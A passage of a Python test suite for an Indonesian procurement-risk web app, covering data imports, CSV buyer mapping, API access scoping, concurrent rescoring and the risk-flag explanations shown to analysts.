    for kept in (live, done):
        status = kept.status
        kept.refresh_from_db()
        assert kept.status == status and Path(kept.path).exists()
    assert services.fail_stalled_imports(now) == 0
    assert "cegah.procurement.tasks.recover_stalled_imports" in PERIODIC
    page = client_for(world.kpk_analyst).get(f"/pbj/kpk-uji/imports/{lost.pk}/").content.decode()
    assert "proses pekerjanya berhenti" in page and 'hx-trigger="every 2s"' not in page


def test_running_import_page_polls(world: World, client_for) -> None:
    job = ImportJob.objects.create(
        organisation=world.kpk,
        kind="ocds",
        original_name="big.jsonl",
        path="/nonexistent",
        bytes_total=100,
        bytes_done=40,
        status=ImportJob.Status.RUNNING,
    )
    client = client_for(world.kpk_analyst)
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert 'hx-trigger="every 2s"' in page and 'http-equiv="refresh"' in page and "40%" in page
    fragment = client.get(f"/pbj/kpk-uji/imports/{job.pk}/", headers={"HX-Request": "true"})
    assert b"<html" not in fragment.content


def test_upload_rejects_other_files_and_regional_analysts(
    world: World, personas: Personas, client_for
) -> None:
    client = client_for(world.kpk_analyst)
    response = client.post("/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("a.exe", b"MZ")})
    assert response.status_code == 200 and not ImportJob.objects.exists()
    regional = client_for(world.analyst)
    assert regional.get(f"/pbj/{personas.org.slug}/imports/").status_code == 404


def test_mapping_a_buyer_is_audited(world: World, client_for) -> None:
    loose = Buyer.objects.get(buyer_id=LOOSE)
    client = client_for(world.kpk_analyst)
    response = client.post(
        f"/pbj/kpk-uji/satker/{loose.pk}/map/", {"organisation": "inspektorat-lain"}
    )
    assert response.status_code == 302
    loose.refresh_from_db()
    assert loose.organisation.slug == "inspektorat-lain"
    assert TenderRisk.objects.filter(buyer=loose, organisation=loose.organisation).count() == 5
    assert AuditEntry.objects.filter(action="procurement.buyer.mapped").exists()


# --- API ----------------------------------------------------------------------------------------


def test_api_gives_scoped_risk_for_the_map(world: World, personas: Personas, client) -> None:
    _token, raw = create_api_token(organisation=personas.org, name="map", actor=personas.admin)
    headers = {"Authorization": f"Bearer {raw}"}
    body = client.get("/api/v1/procurement/buyers?year=2025", headers=headers).json()
    assert [i["buyer_id"] for i in body["items"]] == [OWN]
    assert body["items"][0]["zone"] == "high" and body["cutoffs"]["high"] == 40
    institutions = client.get("/api/v1/procurement/institutions", headers=headers).json()
    assert [i["organisation"] for i in institutions] == [personas.org.slug]
    assert client.get("/api/v1/procurement/buyers").status_code == 401
    _kpk_token, kpk_raw = create_api_token(organisation=world.kpk, name="kpk", actor=None)
    everything = client.get(
        "/api/v1/procurement/institutions", headers={"Authorization": f"Bearer {kpk_raw}"}
    ).json()
    assert None in [i["organisation"] for i in everything] and len(everything) == 3


# --- Mapping many buyers at once ---------------------------------------------------------------


def _mapping(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("mapping.csv", text.encode("utf-8-sig"), content_type="text/csv")


def test_kpk_maps_many_buyers_from_the_csv_it_downloads(
    world: World, personas: Personas, client_for
) -> None:
    client = client_for(world.kpk_analyst)
    listing = b"".join(client.get("/pbj/kpk-uji/buyers.csv").streaming_content).decode("utf-8-sig")
    lines = listing.splitlines()
    assert lines[0] == "buyer_id,name,organisation"
    assert f"{OWN},Satker {CANARY},{personas.org.slug}" in lines
    assert any(line.startswith(f"{LOOSE},") and line.endswith(",") for line in lines)
    # Fill in the unmapped buyer, unmap another, keep the rest as downloaded (Excel's ";").
    filled = [line.replace(",", ";") for line in lines if not line.startswith((LOOSE, OTHER))] + [
        f"{LOOSE};Satker lepas;{personas.org.slug}",
        f"{OTHER};Satker lain;",
    ]
    response = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping("\n".join(filled))})
    assert response.status_code == 302 and response["Location"].endswith("/pbj/kpk-uji/imports/")
    message = client.get("/pbj/kpk-uji/imports/").content.decode()
    assert "1 pembeli dipetakan, 1 dilepas, 1 tidak berubah." in message
    loose = Buyer.objects.get(buyer_id=LOOSE)
    assert loose.organisation == personas.org and loose.region_id == personas.org.region_id
    assert set(TenderRisk.objects.filter(buyer=loose).values_list("organisation", flat=True)) == {
        personas.org.pk
    }
    assert not BuyerRisk.objects.filter(buyer=loose).exclude(organisation=personas.org).exists()
    other = Buyer.objects.get(buyer_id=OTHER)
    assert other.organisation is None
    assert not TenderRisk.objects.filter(buyer=other, organisation__isnull=False).exists()
    entry = AuditEntry.objects.get(action="procurement.buyers.mapped")
    assert entry.details["mapped"] == 1 and entry.details["unmapped"] == 1
    # The organisation's analyst now sees the buyer mapped to it.
    assert (
        client_for(world.analyst).get(f"/pbj/{personas.org.slug}/satker/{loose.pk}/").status_code
        == 200
    )


def test_a_mapping_file_with_problems_changes_nothing_and_names_them(
    world: World, personas: Personas, client_for
) -> None:
    client = client_for(world.kpk_analyst)
    text = "\n".join(
        [
            "buyer_id,organisation",
            f"{LOOSE},{personas.org.slug}",
            "ID-SATKER-NOBODY,juga-tidak-ada",
            f"{OTHER},tidak-ada",
            f"{LOOSE},",
        ]
    )
    page = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping(text)})
    body = page.content.decode()
    assert page.status_code == 200 and "Tidak ada yang diubah" in body
    assert "baris 3 <code>buyer_id</code>: Tidak ada pembeli dengan ID ini." in body
    assert "baris 3 <code>organisation</code>: Tidak ada organisasi" in body  # both at once
    assert (
        "baris 4 <code>organisation</code>: Tidak ada organisasi dengan nama singkat itu." in body
    )
    assert "baris 5 <code>buyer_id</code>: Juga ada di baris 2." in body
    assert Buyer.objects.get(buyer_id=LOOSE).organisation is None  # the good line too
    assert not AuditEntry.objects.filter(action="procurement.buyers.mapped").exists()
    bad = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping("satker,instansi\nx,y")})
    assert "Baris judul harus memuat kolom buyer_id dan organisation." in bad.content.decode()
    unclosed = _mapping(f'buyer_id,organisation\n{LOOSE},"{"x" * 200_000}\n')
    assert (
        "CSV tidak sah"
        in client.post("/pbj/kpk-uji/buyers/map/", {"mapping": unclosed}).content.decode()
    )
    latin = SimpleUploadedFile("m.csv", "buyer_id,organisation\nSatker é,x".encode("latin-1"))
    body = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": latin}).content.decode()
    # A problem of the whole file has no line: no stray colon before it.
    assert "<li>Berkas bukan teks UTF-8" in body


def test_only_kpk_may_list_and_map_buyers(world: World, personas: Personas, client_for) -> None:
    client = client_for(world.analyst)
    assert client.get(f"/pbj/{personas.org.slug}/buyers.csv").status_code == 404
    text = f"buyer_id,organisation\n{LOOSE},{personas.org.slug}"
    response = client.post(f"/pbj/{personas.org.slug}/buyers/map/", {"mapping": _mapping(text)})
    assert response.status_code == 404
    assert Buyer.objects.get(buyer_id=LOOSE).organisation is None


def _map_during_rescoring(
    buyer: Buyer, target: Organisation, monkeypatch: pytest.MonkeyPatch, *, hold: float
) -> BaseException | None:
    """Rescore while another thread maps ``buyer``: the rescoring, once it has deleted the old
    tender rows in its transaction, holds on for ``hold`` seconds while the mapping comes in.
    Returns what the mapping raised (None: it went through). PostgreSQL only."""
    import threading
    import time

    deleted = threading.Event()
    outcome: list[BaseException | None] = []
    real_rows = services._tender_rows

    def slow_rows(con: object) -> object:
        deleted.set()  # the old tender rows are deleted, in the scoring's transaction
        time.sleep(hold)  # the mapping meanwhile reaches its lock (or, before, the deleted rows)
        yield from real_rows(con)

    def map_it() -> None:
        try:
            assert deleted.wait(30)
            services.map_buyer(Buyer.objects.get(pk=buyer.pk), target, actor=None)
            outcome.append(None)
        except BaseException as exc:  # reported by the test's thread
            outcome.append(exc)
        finally:
            from django.db import connection as thread_connection

            thread_connection.close()

    monkeypatch.setattr(services, "_tender_rows", slow_rows)
    mapper = threading.Thread(target=map_it)
    mapper.start()
    services.score_store()
    mapper.join(60)
    assert not mapper.is_alive() and len(outcome) == 1
    return outcome[0]


def _organisations_of(buyer: Buyer) -> tuple[set[int | None], set[int | None]]:
    return (
        set(TenderRisk.objects.filter(buyer=buyer).values_list("organisation_id", flat=True)),
        set(BuyerRisk.objects.filter(buyer=buyer).values_list("organisation_id", flat=True)),
    )


@pytest.fixture
def concurrent_writes() -> None:
    """Skip on SQLite, which runs one write transaction at a time: no rescoring to race with."""
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("SQLite runs one write transaction at a time")


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("concurrent_writes")
def test_a_buyer_mapped_during_a_rescoring_keeps_its_mapping(
    world: World, personas: Personas, monkeypatch: pytest.MonkeyPatch
) -> None:
    loose = Buyer.objects.get(buyer_id=LOOSE)
    assert _map_during_rescoring(loose, personas.org, monkeypatch, hold=1.0) is None
    assert _organisations_of(loose) == ({personas.org.pk}, {personas.org.pk})


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("concurrent_writes")
def test_a_mapping_waits_briefly_for_a_rescoring_then_is_refused(
    world: World, personas: Personas, monkeypatch: pytest.MonkeyPatch
) -> None:
    loose = Buyer.objects.get(buyer_id=LOOSE)
    monkeypatch.setattr(services, "MAPPING_LOCK_WAIT", dt.timedelta(seconds=0.3))
    # The rescoring holds the buyers longer than the mapping may wait.
    raised = _map_during_rescoring(loose, personas.org, monkeypatch, hold=1.5)
    assert isinstance(raised, services.MappingBusy)
    loose.refresh_from_db()
    assert loose.organisation is None and _organisations_of(loose) == ({None}, {None})
    assert not AuditEntry.objects.filter(
        action="procurement.buyer.mapped", details__buyer=LOOSE
    ).exists()
    services.map_buyer(loose, personas.org, actor=None)  # once the rescoring is done
    assert _organisations_of(loose) == ({personas.org.pk}, {personas.org.pk})


def test_a_refused_mapping_says_why(
    world: World, personas: Personas, client_for, monkeypatch: pytest.MonkeyPatch
) -> None:
    def busy(*args: object, **kwargs: object) -> None:
        raise services.MappingBusy

    monkeypatch.setattr(services, "map_buyer", busy)
    monkeypatch.setattr(services, "map_buyers_from_csv", busy)
    client = client_for(world.kpk_analyst)
    buyer = Buyer.objects.get(buyer_id=LOOSE)
    page = client.post(
        f"/pbj/kpk-uji/satker/{buyer.pk}/map/", {"organisation": personas.org.slug}, follow=True
    )
    [message] = list(page.context["messages"])
    assert message.level_tag == "error"
    assert "rescor" in str(message) or "dinilai ulang" in str(message)
    text = f"buyer_id,organisation\n{LOOSE},{personas.org.slug}"
    page = client.post("/pbj/kpk-uji/buyers/map/", {"mapping": _mapping(text)})
    assert page.status_code == 200
    [message] = list(page.context["messages"])
    assert message.level_tag == "error"
    assert "rescor" in str(message) or "dinilai ulang" in str(message)
    assert Buyer.objects.get(buyer_id=LOOSE).organisation is None


# --- Buyers the data does not name ---------------------------------------------------------------


@needs_data(DATA / "real_examples")
def test_buyers_known_by_identifier_are_satker_of_their_own_and_buyerless_tenders_of_none(
    world: World, client_for, tmp_path: Path
) -> None:
    from cegah.procurement.engine.store import Store

    nobody = release(950, "unused", bidders=1)
    del nobody["buyer"]
    nobody["parties"] = nobody["parties"][1:]
    with Store(services.store_path()) as store:
        store.import_ocds(DATA / "real_examples" / "ukraine.jsonl")
        store.import_ocds(write_releases(tmp_path / "nobody.jsonl", [nobody]))
    services.score_store()
    ukrainian = Buyer.objects.filter(buyer_id__startswith="UA-EDR-")
    # Ten of the eleven releases are scored (one tender was cancelled), each its own satker.
    assert ukrainian.count() == 10 and not Buyer.objects.filter(buyer_id="").exists()
    orphan = TenderRisk.objects.get(ocid="ocds-test-950")
    assert orphan.buyer is None and orphan.organisation is None
    assert not BuyerRisk.objects.filter(buyer__buyer_id="").exists()
    client = client_for(world.kpk_analyst)
    page = client.get(f"/pbj/kpk-uji/tenders/{orphan.pk}/").content.decode()
    assert "tidak menyebut pembeli" in page
    listing = client.get("/pbj/kpk-uji/tenders/?q=ocds-test-950").content.decode()
    assert "tanpa pembeli dalam data" in listing
    winner = TenderRisk.objects.get(ocid="ocds-be6bcu-UA-2016-06-02-000468-c").winner
    assert winner == 'ЧП "ОКСИМЕД"'


@needs_data(DATA / "real_examples")
def test_an_upload_with_empty_amounts_is_imported_and_its_notices_shown(
    world: World, client_for, django_capture_on_commit_callbacks
) -> None:
    client = client_for(world.kpk_analyst)
    data = (DATA / "real_examples" / "moldova.jsonl").read_bytes()
    upload = SimpleUploadedFile("moldova.jsonl.gz", gzip.compress(data))
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/pbj/kpk-uji/imports/", {"file": upload})
    job = ImportJob.objects.get()
    assert (job.result["imported"], job.result["refused"]) == (51, 0)
    page = client.get(f"/pbj/kpk-uji/imports/{job.pk}/").content.decode()
    assert "51 dari 51 proses pengadaan diimpor, 0 ditolak." in page
    assert "catatan, tetap diimpor" in page and "kosong, dibaca sebagai tidak ada" in page


@needs_data(DATA / "real_examples")
def test_amounts_in_other_currencies_keep_their_code_and_stay_out_of_rupiah_totals(
    world: World, client_for
) -> None:
    from cegah.procurement.engine.store import Store

    with Store(services.store_path()) as store:
        store.import_ocds(DATA / "real_examples" / "ukraine.jsonl")
    services.score_store()
    tender = TenderRisk.objects.get(ocid="ocds-be6bcu-UA-2016-06-02-000468-c")
    assert (tender.currency, tender.value) == ("UAH", 2910.0)
    client = client_for(world.kpk_analyst)
    page = client.get(f"/pbj/kpk-uji/tenders/{tender.pk}/").content.decode()
    assert "UAH 2.910" in page and "Rp 2.910" not in page
    assert "Nilai dalam UAH" in page
    assert tender.buyer is not None
    risk = BuyerRisk.objects.get(buyer=tender.buyer)
    assert (risk.value_total, risk.value_at_risk, risk.other_currency_tenders) == (0, 0, 1)
    listing = client.get(f"/pbj/kpk-uji/tenders/?q={tender.ocid}").content.decode()
    assert "UAH 2.910" in listing
    ranking = client.get(f"/pbj/kpk-uji/?year={risk.year}&q=UA-EDR-20201870").content.decode()
    assert "1 tender bernilai mata uang lain tidak dihitung." in ranking
    csv_text = b"".join(
        client.get(f"/pbj/kpk-uji/tenders/export.csv?q={tender.ocid}").streaming_content
    ).decode("utf-8-sig")
    header, row = csv_text.splitlines()[:2]
    assert "Mata uang" in header and ",2910,UAH," in row
    # The rupiah tenders' totals are untouched by it.
    rupiah = sum(TenderRisk.objects.filter(buyer__buyer_id=OWN).values_list("value", flat=True))
    assert BuyerRisk.objects.get(buyer__buyer_id=OWN).value_total == rupiah


@pytest.fixture
def bandung(world: World) -> World:
    """The world, plus the real Kab. Bandung 2025 exports imported and scored."""
    from cegah.procurement.engine.spse import import_spse
    from cegah.procurement.engine.store import Store

    with Store(services.store_path()) as store:
        import_spse(store, DATA / "spse_kab_bandung_2025" / "raw")
    services.score_store()
    return world


@needs_data(DATA / "spse_kab_bandung_2025")
def test_trends_keep_next_years_packages_announced_in_december_apart(
    bandung: World, client_for
) -> None:
    early = TenderRisk.objects.get(ocid="ocds-idspse-93-n10035581000")
    assert (early.year, early.month, early.month_year_offset) == (2025, 12, -1)
    assert "ID06" not in early.codes
    december = TenderRisk.objects.filter(year=2025, month=12, month_year_offset=0).count()
    page = client_for(bandung.kpk_analyst).get("/pbj/kpk-uji/trends/?year=2025")
    body = page.content.decode()
    rows = {m.month: m.tenders for m in page.context["monthly"].months}
    assert rows[12] == december
    # 16 in the store; 3 (Seleksi) were cancelled, and cancelled tenders are not scored.
    assert page.context["monthly"].before.tenders == 13
    assert '<th scope="row">Diumumkan sebelum 2025</th><td class="num">13</td>' in body
    assert f'<th scope="row">Desember</th><td class="num">{december}</td>' in body
    # The tenders with no date at all are a row of their own, and in the total.
    undated = TenderRisk.objects.filter(year=2025, month__isnull=True).count()
    assert undated and page.context["monthly"].undated.tenders == undated
    assert f'<th scope="row">Tanggal tidak diketahui</th><td class="num">{undated}</td>' in body
    total = TenderRisk.objects.filter(year=2025).count()
    assert f'<th scope="row">Total</th><td class="num">{total}</td>' in body


# --- One short period, one finding -------------------------------------------------------------


@needs_data(DATA / "spse_kab_bandung_2025")
def test_r003_flags_no_tender_of_legal_length_in_the_webs_scoring(bandung: World) -> None:
    # With Cardinal's 15 days, 46 of Kab. Bandung's 77 Tender and Seleksi were flagged for
    # periods of 5.7-9.6 days, which the law allows.
    flagged = TenderRisk.objects.filter(
        source="spse", method_details__in=["Tender", "Seleksi"], codes__contains=" R003 "
    )
    assert all(t.offer_period_days is not None and t.offer_period_days < 5 for t in flagged)
    legal = TenderRisk.objects.filter(
        source="spse", method_details__in=["Tender", "Seleksi"], tender_end__isnull=False
    )
    assert len([t for t in legal if (t.offer_period_days or 0) >= 5]) > 40


def test_a_short_period_flagged_by_r003_and_id05_counts_once(
    world: World, client_for, tmp_path: Path
) -> None:
    from cegah.procurement.engine.store import Store

    short = release(960, "ID-SATKER-PENDEK")
    short["tender"]["tenderPeriod"]["endDate"] = "2025-03-06T09:00:00+07:00"  # 3 days
    with Store(services.store_path()) as store:
        store.import_ocds(write_releases(tmp_path / "short.jsonl", [short]))
    services.score_store()
    tender = TenderRisk.objects.get(ocid="ocds-test-960")
    flags = {f["code"]: f for f in tender.flags}
    assert flags["ID05"]["points"] == 15 and flags["R003"]["points"] == 0
    assert flags["R003"]["same_as"] == "ID05"
    assert tender.score == sum(f["points"] for f in tender.flags)
    assert tender.score == Policy().tender_score(tender.flags)
    page = client_for(world.kpk_analyst).get(f"/pbj/kpk-uji/tenders/{tender.pk}/")
    assert "(+0, fakta yang sama dengan ID05, dihitung sekali)" in page.content.decode()
    # Without ID05 among the flags, R003 keeps its own points.
    assert Policy().tender_score([{"code": "R003"}, {"code": "R018"}]) == 20


# --- Reasons quote the facts that triggered them -------------------------------------------------

FACTS = "ID-SATKER-FAKTA"


def _direct(n: int, amount: float, signed: str) -> dict:
    r = release(n, FACTS, bidders=1, hps=amount)
    r["tender"].update(procurementMethod="direct", procurementMethodDetails="Pengadaan Langsung")
    r["tender"]["mainProcurementCategory"] = "goods"
    r["awards"] = [
        {
            "id": f"{n}-a",
            "status": "active",
            "date": signed,
            "value": {"amount": amount, "currency": "IDR"},
            "suppliers": [{"id": "ID-SIKAP-S9", "name": "CV Sembilan"}],
        }
    ]
    r["contracts"] = [{"id": f"{n}-c", "dateSigned": signed, "value": {"amount": amount}}]
    return r


def _fact_releases() -> list[dict]:
    slow = release(970, FACTS, bidders=1)  # announced 3 March, awarded 20 May: 78 days
    slow["awards"][0]["date"] = "2025-05-20T09:00:00+07:00"
    rigged = release(971, FACTS, bidders=3)
    end = rigged["tender"]["tenderPeriod"]["endDate"]
    w, x, y = (b["tenderers"][0]["id"] for b in rigged["bids"]["details"])
    for bid, amount in zip(rigged["bids"]["details"], (950e6, 900e6, 900e6), strict=True):
        bid["value"]["amount"] = amount
    rigged["bids"]["details"][0]["date"] = "2025-03-21T10:00:00+07:00"  # a day late
    rigged["awards"][0]["suppliers"] = [{"id": w, "name": "PT Pemenang"}]
    rigged["awards"][0]["value"]["amount"] = 950e6
    assert end < rigged["bids"]["details"][0]["date"] and x != y
    split = [
        _direct(972, 190_000_000, "2025-06-02T10:00:00+07:00"),
        _direct(973, 195_000_000, "2025-06-12T10:00:00+07:00"),
        _direct(974, 20_000_000, "2025-08-01T10:00:00+07:00"),
        _direct(975, 20_000_000, "2025-09-01T10:00:00+07:00"),
        _direct(976, 20_000_000, "2025-10-01T10:00:00+07:00"),
    ]
    return [slow, rigged, *split]


def test_reasons_quote_the_numbers_that_triggered_them(
    world: World, client_for, tmp_path: Path
) -> None:
    from cegah.procurement.engine.store import Store

    with Store(services.store_path()) as store:
        store.import_ocds(write_releases(tmp_path / "facts.jsonl", _fact_releases()))
    services.score_store()
    client = client_for(world.kpk_analyst)

    def reasons(ocid: str) -> str:
        tender = TenderRisk.objects.get(ocid=ocid)
        return client.get(f"/pbj/kpk-uji/tenders/{tender.pk}/").content.decode()

    slow = reasons("ocds-test-970")
    assert "Dari pengumuman sampai penetapan pemenang 78 hari: skor ICW 5 dari 5" in slow
    assert "Nilai kontrak, Rp 990.000.000, sebesar 99,0% dari HPS (Rp 1.000.000.000)" in slow
    rigged = reasons("ocds-test-971")
    assert (
        "Penawar yang berbeda memasukkan harga yang persis sama, Rp 900.000.000: "
        "PT Penyedia ID-SIKAP-9711, PT Penyedia ID-SIKAP-9712." in rigged
    )
    assert (
        "Penawaran pemenang, Rp 950.000.000, 6% di atas penawaran lain terendah yang lolos"
        " evaluasi (sah, atau harganya sudah dikoreksi), Rp 900.000.000" in rigged
    )
    assert (
        "Penawaran pemenang bertanggal 21 Mar 2025 10:00, setelah batas akhir penawaran"
        " 20 Mar 2025 09:00." in rigged
    )
    assert '<th scope="col">Dimasukkan</th>' in rigged and "21 Mar 2025 10:00" in rigged
    split = reasons("ocds-test-972")
    assert (
        "2 pengadaan langsung dari CV Sembilan dalam 30 hari, masing-masing tepat di bawah"
        " batas Pengadaan Langsung Rp 200.000.000 (mulai 80% darinya), bersama-sama"
        " Rp 385.000.000." in split
    )
    buyer = Buyer.objects.get(buyer_id=FACTS)
    page = client.get(f"/pbj/kpk-uji/satker/{buyer.pk}/").content.decode()
    assert "CV Sembilan memenangkan 5 dari 7 paket pembeli ini, 71% (ditandai mulai 50%)" in page
    assert "HHI 0,37 (ditandai mulai 0,25)" in page  # as Indonesian writes numbers: not 0.37


def test_numbers_in_reasons_follow_the_language() -> None:
    meta = {"ID07": {"threshold": 0.25}, "R038": {"Buyer_upper_fence": 0.3869}}
    with translation.override("id"):
        hhi = explain("ID07", 0.4, meta, buyer=True)["reason"]
        r038 = explain("R038", 0.5, meta, buyer=True)["reason"]
    with translation.override("en"):
        english = explain("ID07", 0.4, meta, buyer=True)["reason"]
    assert "HHI 0,40 (ditandai mulai 0,25)" in hhi
    assert "HHI 0.40 (flagged from 0.25)" in english
    assert "50% penawaran" in r038 and "ditandai mulai 39%" in r038


# --- A bad filter value --------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["min_score=-1", "min_score=abc", "min_score=101", "method=Foo"])
def test_a_bad_filter_value_keeps_the_other_filters_and_exports_nothing(
    world: World, client_for, bad: str
) -> None:
    own = Buyer.objects.get(buyer_id=OWN)
    client = client_for(world.kpk_analyst)
    query = f"buyer={own.pk}&year=2025&{bad}"
    page = client.get(f"/pbj/kpk-uji/tenders/?{query}")
    assert page.status_code == 200
    assert page.context["page"].paginator.count == own.tenders.count() == 6  # not all 17
    body = page.content.decode()
    assert "tidak sah dan diabaikan" in body and "/tenders/export.csv" not in body
    for fmt in ("csv", "xlsx"):
        refused = client.get(f"/pbj/kpk-uji/tenders/export.{fmt}?{query}")
        assert refused.status_code == 400 and refused["Content-Type"].startswith("text/html")
        assert "Tidak ada yang diekspor" in refused.content.decode()
    asked = client.post("/pbj/kpk-uji/exports/", {"query": query}, follow=True)
    assert not TenderExport.objects.exists()
    [message] = list(asked.context["messages"])
    assert message.level_tag == "error"


def test_an_unknown_year_is_named_and_the_rest_still_filters(world: World, client_for) -> None:
    own = Buyer.objects.get(buyer_id=OWN)
    page = client_for(world.kpk_analyst).get(
        f"/pbj/kpk-uji/tenders/?buyer={own.pk}&year=1999", headers={"HX-Request": "true"}
    )
    body = page.content.decode()
    assert page.context["page"].paginator.count == 6
    assert "Tahun anggaran:" in body and 'role="alert"' in body  # in the swapped fragment


# --- The ranking's filters ---------------------------------------------------------------------


def test_the_institution_ranking_follows_the_zone_and_name_filters(
    world: World, personas: Personas, client_for
) -> None:
    client = client_for(world.kpk_analyst)
    every = client.get("/pbj/kpk-uji/?level=institution&year=2025").context["institutions"]
    zones = {r.organisation.slug if r.organisation else None: r.zone for r in every}
    assert len(zones) == 3 and zones[personas.org.slug] == "high"
    high = client.get("/pbj/kpk-uji/?level=institution&year=2025&zone=high")
    assert [r.zone for r in high.context["institutions"]] == ["high"] * list(zones.values()).count(
        "high"
    )
    assert high.context["zones"]["high"] == list(zones.values()).count("high")
    named = client.get("/pbj/kpk-uji/?level=institution&year=2025&q=uji")
    assert [r.organisation.slug for r in named.context["institutions"]] == [personas.org.slug]
    nothing = client.get("/pbj/kpk-uji/?level=institution&year=2025&q=Mesuji")
    assert nothing.context["institutions"] == []
    body = nothing.content.decode()
    assert "Tidak ada instansi yang cocok dengan filter ini." in body
    assert "Belum ada data pengadaan yang dinilai" not in body


def test_a_satker_search_without_match_says_so(world: World, client_for) -> None:
    body = client_for(world.kpk_analyst).get("/pbj/kpk-uji/?year=2025&q=Mesuji").content.decode()
    assert "Tidak ada satker yang cocok dengan filter ini." in body
    assert "Belum ada data pengadaan yang dinilai" not in body


# --- The satker page and its year --------------------------------------------------------------


def test_the_satker_page_shows_the_year_it_is_opened_for(
    world: World, client_for, tmp_path: Path
) -> None:
    import json

    from cegah.procurement.engine.store import Store

    older = [
        json.loads(
            json.dumps(release(980 + i, OWN, title=f"Jalan lama {i} ruas desa")).replace(
                "2025-", "2023-"
            )
        )
        for i in range(5)
    ]
    with Store(services.store_path()) as store:
        store.import_ocds(write_releases(tmp_path / "2023.jsonl", older))
    services.score_store()
    own = Buyer.objects.get(buyer_id=OWN)
    assert set(own.risks.values_list("year", flat=True)) == {2023, 2025}
    client = client_for(world.kpk_analyst)
    ranking = client.get("/pbj/kpk-uji/?year=2023").content.decode()
    assert f"/pbj/kpk-uji/satker/{own.pk}/?year=2023" in ranking
    page = client.get(f"/pbj/kpk-uji/satker/{own.pk}/?year=2023")
    assert page.context["year"] == 2023 and page.context["risks"][0].year == 2023
    assert {t.year for t in page.context["top"]} == {2023}
    body = page.content.decode()
    assert "Tender per bulan pada 2023" in body and "Jalan lama 0" in body
    assert f"?buyer={own.pk}&amp;year=2023" in body
    newest = client.get(f"/pbj/kpk-uji/satker/{own.pk}/")
    assert newest.context["year"] == 2025
    assert client.get(f"/pbj/kpk-uji/satker/{own.pk}/?year=1999").context["year"] == 2025
    tender = TenderRisk.objects.get(ocid="ocds-test-980")
    detail = client.get(f"/pbj/kpk-uji/tenders/{tender.pk}/").content.decode()
    assert f"/pbj/kpk-uji/satker/{own.pk}/?year=2023" in detail


# --- Tender links survive rescoring ------------------------------------------------------------


def test_tender_links_stay_the_same_after_an_import_and_rescoring(
    world: World, client_for, tmp_path: Path, django_capture_on_commit_callbacks
) -> None:
    from cegah.procurement.engine.store import Store

    before = dict(TenderRisk.objects.values_list("ocid", "id"))
    client = client_for(world.kpk_analyst)
    link = f"/pbj/kpk-uji/tenders/{before['ocds-test-100']}/"
    assert client.get(link).status_code == 200
    data = write_releases(tmp_path / "more.jsonl", [release(990, "ID-SATKER-BARU", bidders=1)])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            "/pbj/kpk-uji/imports/", {"file": SimpleUploadedFile("more.jsonl", data.read_bytes())}
        )
    after = dict(TenderRisk.objects.values_list("ocid", "id"))
    assert {o: after[o] for o in before} == before  # every tender kept its id
    assert after["ocds-test-990"] > max(before.values())
    page = client.get(link)
    assert page.status_code == 200 and page.context["tender"].ocid == "ocds-test-100"
    # A tender that leaves the data takes its id with it: no later tender is given it.
    gone = after["ocds-test-990"]
    with Store(services.store_path()) as store:
        store.con.execute("DELETE FROM process WHERE ocid = 'ocds-test-990'")
    services.score_store()
    assert client.get(f"/pbj/kpk-uji/tenders/{gone}/").status_code == 404
    with Store(services.store_path()) as store:
        store.import_ocds(write_releases(tmp_path / "next.jsonl", [release(991, OWN)]))
    services.score_store()
    assert TenderRisk.objects.get(ocid="ocds-test-991").id > gone
    # Ids given by the database itself (none are, today) come after them all.
    assert TenderRisk.objects.create(ocid="x", buyer=None).id > gone


# --- Labels, statuses, phones ------------------------------------------------------------------


def test_flag_codes_come_with_their_titles_on_the_ranking_and_the_satker_page(
    world: World, client_for
) -> None:
    client = client_for(world.kpk_analyst)
    risk = BuyerRisk.objects.exclude(flags=[]).first()
    assert risk is not None
    code = risk.flags[0]["code"]
    from cegah.procurement.templatetags.procurement import flag_title

    ranking = client.get(f"/pbj/kpk-uji/?year={risk.year}").content.decode()
    with translation.override("id"):
        title = flag_title(code, "buyer")
    assert title != code and f'<span class="flagcode">{code}</span> {title}</li>' in ranking
    own = Buyer.objects.get(buyer_id=OWN)
    page = client.get(f"/pbj/kpk-uji/satker/{own.pk}/").content.decode()
    assert '<span class="flagcode">ID01</span> Penawaran tunggal meski banyak pendaftar' in page


def test_tables_become_cards_on_a_phone_with_score_and_zone_first(world: World, client_for) -> None:
    from django.contrib.staticfiles import finders

    client = client_for(world.kpk_analyst)
    ranking = client.get("/pbj/kpk-uji/?year=2025").content.decode()
    tenders = client.get("/pbj/kpk-uji/tenders/").content.decode()
    for body in (ranking, tenders):
        assert '<table class="pbj-cards">' in body and 'data-label="Skor"' in body
        assert 'class="num score card-first"' in body
    assert 'class="card-first" data-label="Zona"' in ranking
    css = Path(finders.find("procurement/procurement.css") or "").read_text()
    phone = css[css.index("@media (max-width: 40rem)") :]
    assert "td.card-first { order: -2" in phone and ".reason { display: none; }" in phone
    assert "<script" not in css


def test_the_import_list_says_when_nothing_was_imported(world: World, client_for) -> None:
    def job(name: str, result: dict) -> ImportJob:
        return ImportJob.objects.create(
            organisation=world.kpk,
            kind="ocds",
            original_name=name,
            path="/nonexistent",
            status=ImportJob.Status.DONE,
            result=result,
        )

    job("kosong.jsonl", {"status": "nothing", "records": 3, "imported": 0, "refused": 3})
    job("lagi.jsonl", {"status": "unchanged", "records": 0, "imported": 0, "refused": 0})
    job("sebagian.jsonl", {"status": "imported", "records": 5, "imported": 4, "refused": 1})
    job("baik.jsonl", {"status": "imported", "records": 5, "imported": 5, "refused": 0})
    body = client_for(world.kpk_analyst).get("/pbj/kpk-uji/imports/").content.decode()
    assert "<td>Selesai: tidak ada yang diimpor</td>" in body
    assert "<td>Selesai: sudah pernah diimpor, tidak ada perubahan</td>" in body
    assert "<td>Selesai: 4 dari 5 diimpor</td>" in body
    assert "<td>Selesai</td>" in body


def test_a_tender_without_method_details_shows_its_method(
    world: World, client_for, tmp_path: Path
) -> None:
